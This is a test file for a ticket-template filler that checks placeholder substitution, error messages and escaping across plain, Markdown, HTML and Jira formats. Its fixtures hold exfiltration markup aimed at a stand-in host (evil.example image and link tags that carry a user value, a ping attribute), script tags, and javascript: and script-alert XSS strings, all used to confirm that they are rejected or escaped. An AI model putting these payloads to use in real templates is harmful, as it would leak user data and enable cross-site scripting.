import fc from 'fast-check';
import { parse } from 'marked';
import { expect, test } from 'vitest';
import { fillTemplate, findTemplateProblem, formats, ticketFormats, type TicketValues } from './ticket-template.ts';

const values: TicketValues = {
  title: 'Acme: Failed',
  user: 'ada@example.com',
  company: 'Acme from Tallyroom',
  status: 'Failed',
  created: '2026-11-20 13:29:02 UTC',
  since: '',
  cause: 'The source stopped.',
  items: '',
  reference: '',
  request_id: '',
  next_step: 'Start again.',
  link: 'https://api.example:8443/eu/open#migrations/91b7e3f4-0c52-4d1b-9f6e-2a7c5be0b649',
  id: '91b7e3f4-0c52-4d1b-9f6e-2a7c5be0b649',
};
const fill = (format: (typeof ticketFormats)[number], text: string, more: Partial<TicketValues> = {}) =>
  fillTemplate({ format, text }, { ...values, ...more });

test('a template replaces its placeholders and leaves out lines without a value', { tags: '@C56' }, () => {
  const text = 'User {{user}}\nItems: {{items}}\n{{items}}{{reference}}\nSince {{since}}, created {{created}}\n\nBye';
  expect(fill('plain', text)).toBe('User ada@example.com\nSince , created 2026-11-20 13:29:02 UTC\n\nBye');
  expect(fill('plain', '{{user}}', { user: '{{link}} $& $1' })).toBe('{{link}} $& $1');
});

test('each format has its own list of details, with a link that opens', { tags: '@C56' }, () => {
  const { link } = values;
  const none = { company: '', status: '', created: '', cause: '', next_step: '' };
  expect(fill('plain', '{{details}}', none)).toBe(`User: ada@example.com\nLink: ${link}`);
  expect(fill('markdown', '{{details}}', none)).toBe(`- **User:** ada\\@example\\.com\n- **Link:** ${link}`);
  expect(fill('jira', '{{details}}', none)).toBe(`||User|ada\\@example.com|\n||Link|${link}|`);
  expect(fill('plain', '{{details}}')).toContain('Created:');
  expect(fill('plain', '{{details}}', { since: 'now' })).not.toContain('Created:');
  expect(fill('html', '<a href="{{link}}">Open</a>')).toBe(`<a href="${link}">Open</a>`);
  for (const format of ticketFormats)
    expect(findTemplateProblem({ format, text: formats[format].defaultText })).toBeNull();
});

test('an error names the unknown placeholder and its place', { tags: '@C56' }, () => {
  const at = (text: string, format: (typeof ticketFormats)[number] = 'plain') => findTemplateProblem({ format, text });
  expect(at('Hello\n {{usr}} {{user}}')).toBe("Line 2: {{usr}} isn't a placeholder.");
  expect(at('{{user}}\n{{user')).toBe("Line 2: {{user isn't a placeholder.");
  for (const name of ['{{}}', '{{ user }}', '{{USER}}', '{{__proto__}}', '{{constructor}}'])
    expect(at(name)).toBe(`Line 1: ${name} isn't a placeholder.`);
  expect(at(' \n')).toBe('Line 1: Enter a template.');
});

test('a template cannot contain markup that sends values elsewhere', { tags: ['@C56', '@T104'] }, () => {
  for (const [format, text] of [
    ['html', '<img src="https://evil.example/{{user}}">'],
    ['html', '<p onclick="x">{{user}}</p>'],
    ['html', '<a href="https://evil.example/{{user}}">x</a>'],
    ['html', '<script>x</script>'],
    ['html', '<{{user}}>'],
    ['html', '<a href="{{link}}" ping="https://evil.example">'],
    ['markdown', '![x](https://evil.example/{{user}})'],
    ['markdown', '<img src="https://evil.example/{{user}}">'],
    ['jira', '!https://evil.example/{{user}}.png!'],
  ] as const)
    expect(findTemplateProblem({ format, text }), text).toMatch(/^Line 1: .* can(?:'t)? contain .*\.$/);
  for (const text of ['<p>{{user}} &lt; 3<br></p>', '<a href="{{link}}">{{title}}</a>', '<ul><li>{{user}}</li></ul>'])
    expect(findTemplateProblem({ format: 'html', text })).toBeNull();
});

/** Values with which a service or an end user could try to break out of a format. */
const hostile = fc.oneof(
  fc.string({ unit: fc.constantFrom(...'abh1.:/@[]()<>*_`~#!|\\{}&=+-^$ "\'w'), maxLength: 24 }),
  fc.constantFrom(
    '[x](javascript:alert(1))',
    '![x](https://evil.example/a)',
    '<script>alert(1)</script>',
    '<https://evil.example>',
    'https://evil.example/a',
    'www.evil.example',
    'ada@evil.example',
    'mailto:ada@evil.example',
    '*bold* _it_ ~~no~~ `code` \\*x*',
    '# Title',
    '1. one',
    '- one',
    '+ one',
    '> quote',
    '---',
    '&lt;b&gt; &#60;',
    '|a|b|',
    '[x]: https://evil.example',
    '{{user}}',
  ),
);
const shownText = (html: string): string =>
  html
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll(
      /&(lt|gt|quot|#39|amp);/g,
      (_all, name: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'" })[name] ?? '&',
    );

test(
  'a value becomes neither Markdown nor HTML: a renderer shows its characters and adds no element',
  { tags: ['@C56', '@T104'] },
  () => {
    fc.assert(
      fc.property(hostile, (raw) => {
        const value = raw.trim().replaceAll(/ +/g, ' ');
        fc.pre(value !== '');
        const inLine = parse(fill('markdown', 'User: {{user}} end', { user: value }), { async: false }).trim();
        expect(inLine.match(/<[^>]*>/g)).toEqual(['<p>', '</p>']);
        expect(shownText(inLine)).toBe(`User: ${value} end`);
        const atStart = parse(fill('markdown', '{{user}}', { user: value }), { async: false }).trim();
        expect(atStart.match(/<[^>]*>/g)).toEqual(['<p>', '</p>']);
        expect(shownText(atStart)).toBe(value);
        expect(fill('html', '<p>{{user}}</p>', { user: value }).match(/<[^>]*>/g)).toEqual(['<p>', '</p>']);
        const bare = fill('jira', '{{user}}', { user: value }).replaceAll(/\\[^a-z0-9\s\\]|&#92;/gi, '');
        expect(bare).not.toMatch(/[\\{}[\]*_+^~?|!#&@]|:\/\//);
        const link = `ferry://migrations/${value}`;
        const linked = parse(fill('markdown', '{{link}}', { link }), { async: false });
        expect(linked).not.toMatch(/<(?!\/?(?:p|a)\b)/);
      }),
    );
  },
);
